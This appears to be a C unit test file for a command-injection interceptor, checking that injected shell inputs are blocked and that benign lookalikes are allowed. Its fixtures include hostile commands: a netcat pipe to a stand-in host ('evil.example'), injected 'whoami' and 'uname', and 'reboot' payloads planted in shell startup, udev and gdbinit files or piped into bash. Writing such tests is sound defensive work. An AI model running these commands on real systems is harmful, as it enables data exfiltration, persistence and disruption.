/* shellfix2 (session 33): a shell's option cluster ending in a valued
 * option in a command line (review25b-shell38), one-byte separators that
 * cut the application's word (review25d), and their twins. */
#include "agent_test.h"

static int line_with(const char *input, const char *cmd)
{
	const struct moat_policy *p = moat_policy_parse(
	    "{\"interceptors\":{\"command_injection\":{\"mode\":\"block\"}}}", 1, NULL, 0);
	struct moat_request_info ri = {.method = "POST", .endpoint = "/run"};
	struct moat_request *r = NULL;
	int v;

	assert_non_null(p);
	ri.policy = p;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	moat_policy_release(p);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_FORM, "f", input, strlen(input)), 0);
	v = moat_check_shell(r, cmd, strlen(cmd));
	moat_request_end(r);
	return v;
}

static void a_cluster_with_a_value_before_c_is_read(void **state)
{
	(void)state;
	assert_int_equal(line_with("ok && whoami", "sh -eo pipefail -c \"make ok && whoami\""),
	                 MOAT_BLOCK);
	assert_int_equal(line_with("b | nc evil.example 9",
	                           "/usr/bin/bash -euxo pipefail -c 'cat b | nc evil.example 9'"),
	                 MOAT_BLOCK);
	assert_int_equal(line_with("1; uname -a", "zsh -eO extendedglob -c 'run 1; uname -a'"),
	                 MOAT_BLOCK);
	/* twins: the input as a word of the inner line */
	assert_int_equal(line_with("release-42", "bash -eo pipefail -c 'git tag release-42'"),
	                 MOAT_ALLOW);
	assert_int_equal(line_with("nightly", "bash -euo pipefail -c \"deploy nightly\""),
	                 MOAT_ALLOW);
}

static void a_one_byte_separator_that_cuts_a_word_fires(void **state)
{
	(void)state;
	assert_int_equal(line_with("|", "cp /data/in/|report.csv /data/out"), MOAT_BLOCK);
	assert_int_equal(line_with("\n", "convert /var/img/\nthumb.png -resize 64 /tmp/t.png"),
	                 MOAT_BLOCK);
	assert_int_equal(line_with(";", "shred -u /home/www/uploads/;tmp.bin"), MOAT_BLOCK);
	assert_int_equal(line_with("&", "chown -R app /opt/sites/&/index.html"), MOAT_BLOCK);
}

static void a_one_byte_input_beside_the_application_s_own_operators_is_allowed(void **state)
{
	(void)state;
	/* quoted, escaped, in a comment */
	assert_int_equal(line_with(";", "rm -rf '/srv/app/users/;/avatar.png'"), MOAT_ALLOW);
	assert_int_equal(line_with("|", "grep -c \"a|b\" /var/log/app.log"), MOAT_ALLOW);
	assert_int_equal(line_with(";", "ls /srv/a\\;b"), MOAT_ALLOW);
	assert_int_equal(line_with("&", "make all # build&test"), MOAT_ALLOW);
	/* the application's own separators, a blank or operator beside */
	assert_int_equal(line_with(";", "cd /srv/app; ls -la"), MOAT_ALLOW);
	assert_int_equal(line_with("&", "sync 2>&1 && echo done"), MOAT_ALLOW);
	assert_int_equal(line_with("|", "ps aux | grep nginx"), MOAT_ALLOW);
	assert_int_equal(line_with("\n", "cd /tmp\n"), MOAT_ALLOW);
	/* a usage line's alternatives, the byte quoted where the input is */
	assert_int_equal(line_with("|", "csvlook [-d|--delimiter] '|' data.psv"), MOAT_ALLOW);
	/* a letter, a digit, a blank, a glob */
	assert_int_equal(line_with("q", "rm -rf /srv/app/users/q/avatar.png"), MOAT_ALLOW);
	assert_int_equal(line_with("9", "rm -rf /srv/app/users/9/avatar.png"), MOAT_ALLOW);
}

static void a_file_read_as_code_or_copied_on_then_run_fires(void **state)
{
	static const char *const bad[] = {
	    "printf '%s\\n' 'n; reboot' >> /home/deploy/.bash_aliases",
	    "echo 'n; reboot' > /etc/udev/rules.d/99-x.rules",
	    "echo 'n; reboot' >> /root/.gdbinit",
	    "echo 'n; reboot' | gzip > /tmp/p.gz; zcat /tmp/p.gz | bash",
	    "echo 'n; reboot' > /tmp/a; sed 's/x/y/' /tmp/a > /tmp/b.sh; bash /tmp/b.sh",
	    "echo 'n; reboot' > /tmp/l; xargs --arg-file=/tmp/l -I% bash -c %",
	    "echo 'n; reboot' > /tmp/c; scp /tmp/c /tmp/d.sh; dash /tmp/d.sh",
	};
	static const char *const good[] = {
	    "echo 'n; reboot' > /tmp/a; cat /tmp/a > /srv/notes/b.txt; wc -l /srv/notes/b.txt",
	    "echo 'n; reboot' > /tmp/l; xargs -a /tmp/l -I% echo %",
	    "echo 'n; reboot' | base64 > /tmp/e; base64 -d /tmp/e | wc -c",
	    "echo 'n; reboot' >> /srv/app/gitconfig-notes.txt",
	    "echo 'n; reboot' > /tmp/a; rsync /tmp/a /srv/archive/a.txt",
	};

	(void)state;
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++)
		assert_int_equal(line_with("n; reboot", bad[i]), MOAT_BLOCK);
	for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
		assert_int_equal(line_with("n; reboot", good[i]), MOAT_ALLOW);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(a_cluster_with_a_value_before_c_is_read),
	    cmocka_unit_test(a_one_byte_separator_that_cuts_a_word_fires),
	    cmocka_unit_test(a_one_byte_input_beside_the_application_s_own_operators_is_allowed),
	    cmocka_unit_test(a_file_read_as_code_or_copied_on_then_run_fires),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
